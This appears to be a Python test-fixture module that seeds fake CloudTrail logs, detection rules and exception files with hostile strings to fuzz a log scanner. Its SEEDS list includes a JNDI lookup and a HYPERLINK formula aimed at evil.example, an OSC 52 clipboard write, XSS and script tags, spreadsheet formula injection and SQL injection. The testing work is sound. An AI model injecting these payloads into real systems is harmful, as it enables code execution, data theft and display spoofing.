"""Texts that try to act on a terminal, in a spreadsheet or in a log, and files made of them."""

from __future__ import annotations

import json
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from bars.harness import Context, delivery, event, run_command

__all__ = ["World", "hostile_texts", "hostile_world"]

SEEDS = (
    "\x1b[2J\x1b[H",
    "\x1b]8;;https://evil.example\x07click\x1b]8;;\x07",
    "\x1b]52;c;ZXZpbA==\x07",
    "\x9b31m",
    "\x90q\x9c",
    "\r overwritten",
    "\b\b\b",
    "\x07",
    "\x00",
    "\u202eexe.txt",
    "\u2066x\u2069",
    "\u200b",
    "\ufeff",
    "\u2028",
    "[link=https://evil.example]x[/link]",
    "[/]",
    "[bold red]",
    "{0.__class__}",
    "<script>window.__canary=1</script>",
    '"><img src=x onerror=alert(1)>',
    "</style><script>",
    "javascript:1",
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\n=1",
    "\uff1d1+1",
    '=HYPERLINK("http://evil.example")',
    ";=1",
    '{"kind":"finding"}',
    '\n{"kind":"finding"}',
    "${jndi:ldap://evil.example}",
    "%s%n",
    "'; DROP TABLE x; --",
)
_RULE = """title: {title}
id: any
description: {text}
author: {text}
references: [{text}]
falsepositives: [{text}]
tags: [{text}]
logsource: {{product: aws, service: cloudtrail}}
detection:
  selection: {{eventID: '*'}}
  other: {{userAgent: {text}}}
  condition: selection or other
level: low
"""
_EXCEPTION = """[[exception]]
id = {text}
reason = {text}
author = {text}
principals = ["nobody"]
"""


@dataclass(frozen=True, slots=True)
class World:
    """Where hostile logs, rules and all else lie."""

    folder: Path
    logs: Path
    rules: Path
    store: Path
    exceptions: Path
    texts: list[str]


def hostile_texts(context: Context, number: int) -> list[str]:
    """Return texts made of the seeds, alone and joined."""
    rng = context.rng
    joined = ["".join(rng.choice(SEEDS) for _ in range(rng.randrange(1, 4))) for _ in range(number)]
    return [*SEEDS, *joined][:number]


def hostile_world(context: Context, number: int, *, store: bool = False) -> World:
    """Write logs, rules and exceptions made of hostile texts; with a store, scan into it."""
    folder = context.folder
    texts = hostile_texts(context, number)
    world = World(
        folder,
        folder / "logs",
        folder / "rules",
        folder / "a.db",
        folder / "exceptions.toml",
        texts,
    )
    world.logs.mkdir()
    world.rules.mkdir()
    (world.logs / "h.json").write_bytes(delivery(_leading(texts)))
    # A name, and damage in it that is told with the name.
    (world.logs / "\x1b[31m\u202e[x].json").write_bytes(delivery([event(9**7)])[:-40])
    text = json.dumps("".join(SEEDS[:8]), ensure_ascii=True)
    (world.rules / "r.yml").write_text(_RULE.format(title=text, text=text))
    (world.rules / "\x1b[31mbroken.yml").write_text(f"title: {text}\ndetection: [")
    world.exceptions.write_text(_EXCEPTION.format(text=text))
    if store:
        where = ("--store", str(world.store), "--workers", "1", "--json")
        run_command("scan", str(world.logs), "-r", str(world.rules), *where)
    return world


def _leading(texts: list[str]) -> list[dict[str, Any]]:
    """Return a record for each text, which stands wherever a caller or a forger can put one."""
    records = []
    for at, text in enumerate(texts):
        identity = {
            "type": text,
            "arn": f"arn:aws:iam::1:user/{text}",
            "userName": text,
            "accessKeyId": text,
        }
        names = ("userAgent", "sourceIPAddress", "awsRegion", "errorCode", "errorMessage")
        more: dict[str, Any] = dict.fromkeys((*names, "eventSource", "recipientAccountId"), text)
        more |= {"eventName": f"Describe{text}", "userIdentity": identity, "eventID": f"{at}{text}"}
        more["requestParameters"] = {text: text, "name": text}
        more["resources"] = [{"ARN": text, "type": text}]
        records.append(event(at, **more))
    return records
